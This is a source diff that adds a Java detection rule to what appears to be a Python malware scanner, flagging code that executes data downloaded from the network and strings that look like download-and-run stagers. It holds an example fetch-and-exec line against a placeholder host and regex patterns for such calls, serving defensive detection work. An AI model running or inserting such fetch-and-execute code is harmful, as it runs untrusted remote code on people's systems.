@@ -1,0 +1,67 @@
+package dev.kingsnake.rules.exec;
+
+import dev.kingsnake.Confidence;
+import dev.kingsnake.Severity;
+import dev.kingsnake.spi.FindingSink;
+import dev.kingsnake.spi.Location;
+import dev.kingsnake.spi.PythonFile;
+import dev.kingsnake.spi.PythonFileRule;
+import dev.kingsnake.spi.RuleContext;
+import dev.kingsnake.spi.RuleInfo;
+import dev.kingsnake.spi.Tags;
+import dev.kingsnake.spi.python.Expr;
+import dev.kingsnake.spi.python.Nodes;
+
+import java.util.Set;
+import java.util.regex.Pattern;
+
+/** exec/eval/compile/marshal/pickle of data that came from the network. */
+public final class DownloadedCodeExecutionRule implements PythonFileRule {
+    static final RuleInfo INFO = new RuleInfo("KS-EXEC-DOWNLOADED-CODE",
+            "Runs code downloaded from the network (exec/eval/compile/marshal/pickle of a response, or a "
+                    + "string of Python code that does so, written out as a stager)",
+            Severity.CRITICAL, Confidence.HIGH,
+            Set.of(Tags.EXECUTE, Tags.DOWNLOAD, Tags.NETWORK, Tags.STRONG),
+            "exec(requests.get('https://example.invalid/p.txt').text)",
+            "Benign code almost never executes what it downloads; plugin systems that do so are rare and "
+                    + "should be reviewed. pickle.loads of socket data (IPC in network tools) is LOW/MEDIUM. Data is followed through simple assignments and with-blocks only.");
+
+    /** A call of exec/eval with an argument, and a network fetch, inside a string literal. */
+    static final Pattern STAGER_EXEC = Pattern.compile("\\b(exec|eval)\\s*\\(\\s*[^)\\s]");
+    static final Pattern STAGER_NET = Pattern.compile("\\b(urlopen|urlretrieve|requests\\.(get|post)|httpx\\.get)\\b");
+
+    @Override
+    public RuleInfo info() {
+        return INFO;
+    }
+
+    @Override
+    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
+        CodeFacts facts = CodeFacts.of(file);
+        Nodes.walk(file.module(), n -> {
+            if (n instanceof Expr.Literal l && l.value().isStringLike()) {
+                String t = l.value().asText();
+                if (t.length() >= 30 && t.length() < 1_000_000 && (t.contains("exec") || t.contains("eval"))
+                        && STAGER_EXEC.matcher(t).find() && STAGER_NET.matcher(t).find()) {
+                    sink.report(Location.of(file, l), "string holds Python code that runs a download (a stager "
+                            + "written to a file or passed to another interpreter)", ExecSinks.snippet(t));
+                }
+            }
+        });
+        for (Expr.Call c : file.calls()) {
+            ExecSinks.of(facts, c).ifPresent(u -> {
+                if (!u.taint().contains(CodeFacts.Taint.NETWORK)) {
+                    return;
+                }
+                if (u.pickle()) {
+                    // pickle over sockets is (unsafe) IPC far more often than a loader
+                    sink.report(Location.of(file, c), u.sink() + "() unpickles data received from the network",
+                            ExecSinks.snippet(file.line(c.line())), Severity.LOW, Confidence.MEDIUM);
+                } else {
+                    sink.report(Location.of(file, c), u.sink() + "() runs data fetched from the network",
+                            ExecSinks.snippet(file.line(c.line())));
+                }
+            });
+        }
+    }
+}
